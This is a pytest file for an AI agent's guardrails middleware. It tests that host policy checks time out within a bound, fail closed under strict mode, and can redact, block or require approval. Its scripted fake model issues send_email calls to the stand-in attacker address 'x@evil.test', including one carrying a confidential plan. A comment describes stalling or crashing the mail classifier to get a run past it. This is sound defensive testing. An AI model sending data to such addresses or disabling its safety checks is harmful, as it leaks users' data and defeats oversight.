"""``policies=``: host code in the policy engine, bounded to 1 s, failing closed under strict and reported otherwise."""

from __future__ import annotations

import asyncio
import threading
import time
from typing import Any

import pytest
from langchain_core.tools import tool

from ai_utils import Agent, MemorySaver, UserError, guardrails
from ai_utils.client import is_interrupt
from ai_utils.guard import POLICY_TIMEOUT
from ai_utils.testing import FakeChatModel

RELEASE = threading.Event()  # lets the hung policies' worker threads finish when the test module is done


@pytest.fixture(autouse=True, scope="module")
def _release_hung_policies() -> Any:
    yield
    RELEASE.set()


def hangs(phase: str, payload: Any) -> None:
    """A host classifier that never answers in time (e.g. its model provider hangs)."""
    RELEASE.wait(30)


async def ahangs(phase: str, payload: Any) -> None:
    await asyncio.sleep(30)


def raises(phase: str, payload: Any) -> None:
    raise RuntimeError("classifier is down")


class Ledger:
    def __init__(self) -> None:
        self.ran: list[str] = []

        @tool
        def send_email(to: str, body: str) -> str:
            """Send an email."""
            self.ran.append(to)
            return "sent"

        self.send_email = send_email


@pytest.mark.timeout(60)
@pytest.mark.parametrize("policy", [hangs, ahangs, raises], ids=["sync-hang", "async-hang", "raises"])
async def test_a_failing_policy_fails_closed_under_strict(policy: Any) -> None:
    # The attack: the classifier that guards outgoing mail is made to stall (or crash), hoping the run goes on.
    ledger = Ledger()
    decisions: list[dict[str, Any]] = []
    model = FakeChatModel([{"tool_calls": [{"name": "send_email", "args": {"to": "x@evil.test", "body": "hi"}}]}, "ok"])
    agent = Agent(
        llm=model,
        tools=[ledger.send_email],
        middleware=guardrails("strict", policies=[policy], on_decision=decisions.append),
    )

    started = time.monotonic()
    answer = await agent.ainvoke("mail the report")

    # Refused: the input never reached the model, the tool never ran, and the bound held.
    assert answer == f"[BLOCKED:host.{policy.__name__}]"
    assert model.calls == [] and ledger.ran == []
    assert time.monotonic() - started < 10
    reason = "error" if policy is raises else "timeout"
    assert decisions == [
        {"policy_id": f"host.{policy.__name__}", "phase": "input", "action": "block", "risk": "high", "reason": reason}
    ]


@pytest.mark.timeout(60)
def test_a_policy_that_sleeps_past_its_bound_in_a_sync_run_blocks_the_tool_under_strict() -> None:
    ledger = Ledger()
    calls: list[str] = []

    def slow_on_tools(phase: str, payload: Any) -> None:
        calls.append(phase)
        if phase == "tool_input":
            time.sleep(POLICY_TIMEOUT + 1.5)

    model = FakeChatModel([{"tool_calls": [{"name": "send_email", "args": {"to": "a@b.test", "body": "x"}}]}, "done"])
    agent = Agent(llm=model, tools=[ledger.send_email], middleware=guardrails("strict", policies=[slow_on_tools]))

    assert agent.invoke("send it") == "done"
    assert ledger.ran == []
    assert "Blocked by guardrails (host.slow_on_tools)" in model.calls[1][-1].text
    assert calls[:2] == ["input", "tool_input"]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("policy", [hangs, raises], ids=["hang", "raises"])
def test_a_failing_policy_is_reported_under_standard_and_the_run_goes_on(policy: Any) -> None:
    ledger = Ledger()
    decisions: list[dict[str, Any]] = []
    model = FakeChatModel([{"tool_calls": [{"name": "send_email", "args": {"to": "a@b.test", "body": "x"}}]}, "done"])
    agent = Agent(
        llm=model,
        tools=[ledger.send_email],
        middleware=guardrails("standard", policies=[policy], on_decision=decisions.append),
    )

    assert agent.invoke("send it") == "done"

    assert ledger.ran == ["a@b.test"]
    reason = "error" if policy is raises else "timeout"
    failed = {"policy_id": f"host.{policy.__name__}", "action": "audit", "risk": "high", "reason": reason}
    phases = [d["phase"] for d in decisions]
    assert phases == ["input", "tool_input", "tool_output", "output"]
    assert all({k: d[k] for k in failed} == failed for d in decisions)


def test_policies_see_each_phase_and_can_redact_block_and_ask_for_approval() -> None:
    seen: list[tuple[str, Any]] = []

    def compliance(phase: str, payload: Any) -> dict[str, Any] | None:
        seen.append((phase, payload))
        if phase == "input" and "ACME-CONFIDENTIAL" in payload:
            return {"action": "redact", "value": payload.replace("ACME-CONFIDENTIAL", "[internal]"), "risk": "high"}
        if phase == "tool_input" and payload["args"]["to"].endswith("@evil.test"):
            return {"action": "block", "policy_id": "mail.external", "risk": "critical"}
        if phase == "tool_input" and payload["args"]["to"].startswith("all@"):
            return {"action": "require_approval", "policy_id": "mail.broadcast"}
        if phase == "output" and "password" in payload:
            return {"action": "block", "policy_id": "output.password"}
        return None

    ledger = Ledger()
    decisions: list[dict[str, Any]] = []
    model = FakeChatModel(
        [
            {"tool_calls": [{"name": "send_email", "args": {"to": "x@evil.test", "body": "plan"}}]},
            {"tool_calls": [{"name": "send_email", "args": {"to": "all@acme.test", "body": "plan"}}]},
            "The admin password is hunter2",
        ]
    )
    agent = Agent(
        llm=model,
        tools=[ledger.send_email],
        checkpointer=MemorySaver(),
        middleware=guardrails(policies=[compliance], on_decision=decisions.append),
    )

    paused = agent.invoke("send the ACME-CONFIDENTIAL plan to everyone", thread_id="t")
    assert is_interrupt(paused)
    assert "ACME-CONFIDENTIAL" not in str(model.calls[0]) and "[internal] plan" in str(model.calls[0])
    answer = agent.invoke(thread_id="t", decision="reject")

    assert answer == "[BLOCKED:output.password]"
    assert ledger.ran == []
    assert [(d["policy_id"], d["phase"], d["action"]) for d in decisions] == [
        ("host.compliance", "input", "redact"),
        ("mail.external", "tool_input", "block"),
        ("mail.broadcast", "tool_input", "require_approval"),
        ("mail.broadcast", "tool_input", "rejected"),
        ("output.password", "output", "block"),
    ]
    # The approved-or-not call is checked again when the run resumes (the tool step runs again).
    assert [phase for phase, _ in seen] == ["input", "tool_input", "tool_input", "tool_input", "output"]
    stored = agent.graph.get_state({"configurable": {"thread_id": "t"}}).values["messages"]
    assert "hunter2" not in str(stored) and "ACME-CONFIDENTIAL" not in str(stored)


def test_a_malformed_answer_counts_as_a_failed_policy() -> None:
    def confused(phase: str, payload: Any) -> Any:
        return {"action": "redact"}  # no value to redact to

    decisions: list[dict[str, Any]] = []
    agent = Agent(
        llm=FakeChatModel(["hi"]), middleware=guardrails("strict", policies=[confused], on_decision=decisions.append)
    )
    assert agent.invoke("hello") == "[BLOCKED:host.confused]"
    assert decisions[0]["reason"] == "malformed"


def test_policies_must_be_functions() -> None:
    with pytest.raises(UserError, match="policies must hold functions"):
        guardrails(policies=["not a function"])  # type: ignore[list-item]
    with pytest.raises(UserError, match="policies must be a list"):
        guardrails(policies=hangs)  # type: ignore[arg-type]


@pytest.mark.timeout(60)
def test_in_audit_mode_policies_are_asked_and_reported_but_change_nothing() -> None:
    def blocker(phase: str, payload: Any) -> dict[str, Any]:
        return {"action": "block", "policy_id": f"no.{phase}"}

    ledger = Ledger()
    decisions: list[dict[str, Any]] = []
    model = FakeChatModel([{"tool_calls": [{"name": "send_email", "args": {"to": "a@b.test", "body": "x"}}]}, "sent!"])
    agent = Agent(
        llm=model,
        tools=[ledger.send_email],
        middleware=guardrails("strict", mode="audit", policies=[blocker, hangs], on_decision=decisions.append),
    )
    assert agent.invoke("send it") == "sent!"
    assert ledger.ran == ["a@b.test"]
    # What strict enforcement would do: block at each phase (the hung policy is never reached after a block).
    assert [(d["policy_id"], d["action"]) for d in decisions] == [
        ("no.input", "block"),
        ("no.tool_input", "block"),
        ("no.tool_output", "block"),
        ("no.output", "block"),
    ]
